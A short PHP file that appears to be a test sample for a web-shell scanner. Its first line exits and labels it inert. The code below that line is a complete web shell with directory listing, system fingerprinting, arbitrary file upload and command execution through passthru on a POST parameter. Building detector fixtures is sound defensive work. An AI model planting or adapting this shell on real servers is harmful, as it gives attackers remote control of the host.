<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
// 文件管理 + 命令执行
$dir = isset($_GET['d']) ? $_GET['d'] : getcwd();
echo php_uname();
echo ini_get('disable_functions');
echo ini_get('safe_mode') ? 'ON' : 'OFF';
$u = posix_getpwuid(fileowner($dir));
foreach (scandir($dir) as $f) { echo $f . ' ' . substr(sprintf('%o', fileperms($dir.'/'.$f)), -4) . "<br>"; }
if (!empty($_FILES['up'])) { move_uploaded_file($_FILES['up']['tmp_name'], $dir . '/' . basename($_FILES['up']['name'])); }
if (!empty($_POST['c'])) { echo '<pre>'; passthru($_POST['c'] . ' 2>&1'); echo '</pre>'; }
